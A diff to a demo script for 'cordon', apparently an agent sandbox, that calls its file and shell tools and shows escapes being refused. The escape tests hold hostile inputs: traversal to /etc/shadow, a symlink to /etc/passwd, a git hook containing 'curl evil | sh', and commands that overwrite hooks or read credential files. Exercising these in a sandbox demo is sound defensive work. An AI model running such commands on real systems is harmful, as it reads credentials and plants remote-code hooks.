@@ -9,6 +9,7 @@ C="$PWD/build/cordon"
 demo=$(mktemp -d /tmp/cordon-demo-XXXXXX)
 ws="$demo/workspace"; log="$demo/audit.jsonl"
 mkdir -p "$ws/src" "$ws/.git/hooks"
+printf '[core]\n' > "$ws/.git/config"
 printf 'def greet(name):\n    return "hello " + name\n' > "$ws/src/app.py"
 ln -s /etc/passwd "$ws/src/passwd-link"
 
@@ -16,7 +17,7 @@ step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 call() {  # call TOOL JSON: prints the compact result and the exit code
   local rc=0
   "$C" call "$1" --workspace "$ws" --audit-log "$log" --json "$2" > "$demo/out.json" || rc=$?
-  python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); s=r["structuredContent"]; print(("ERROR " if r["isError"] else "ok    ")+json.dumps(s)[:300])' "$demo/out.json"
+  python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); s=r["structuredContent"]; tag="ERROR " if r["isError"] else "ok    "; p="argv" in s; print(tag+(("argv=%s exit=%s stdout=%r stderr=%r" % (s["argv"], s["exit_code"], s["stdout"][:120], s["stderr"][:160])) if p else json.dumps(s)[:300]))' "$demo/out.json"
   echo "      (exit $rc)"
 }
 
@@ -29,6 +30,9 @@ call create_file '{"path":"tests/test_app.py","content":"from src.app import gre
 call replace_range '{"path":"src/app.py","old_string":"\"hello \"","new_string":"\"hi \""}'
 call write_patch '{"patches":[{"op":"edit","path":"src/app.py","old_string":"def greet","new_string":"def greet_user"},{"op":"edit","path":"src/app.py","old_string":"name)","new_string":"name: str)"}]}'
 call read_file_range '{"path":"src/app.py","start_line":1}'
+call search_text '{"pattern":"greet","extensions":["py"]}'
+call find_files '{"pattern":"app"}'
+call run_shell '{"program":"python3","args":["-c","import src.app as a; print(a.greet_user(\"cordon\"))"]}'
 
 step "refused escapes"
 call read_file_range '{"path":"../../../etc/shadow","start_line":1}'
@@ -36,6 +40,9 @@ call read_file_range '{"path":"/etc/passwd","start_line":1}'
 call read_file_range '{"path":"src/passwd-link","start_line":1}'
 call create_file '{"path":".git/hooks/pre-commit","content":"curl evil | sh\n"}'
 call replace_range '{"path":"src/app.py","old_string":"x","new_string":"y","bogus":1}'
+call run_shell '{"program":"sh","args":["-c","echo pwned > .git/hooks/pre-commit"]}'
+call run_shell '{"program":"cat","args":["/etc/shadow"]}'
+call run_shell '{"program":"sh","args":["-c","grep -E \"NoNewPrivs|Seccomp:|CapEff\" /proc/self/status; ls /proc | grep -c \"^[0-9]\""]}'
 
 step "audit log ($log)"
 "$C" audit show "$log"
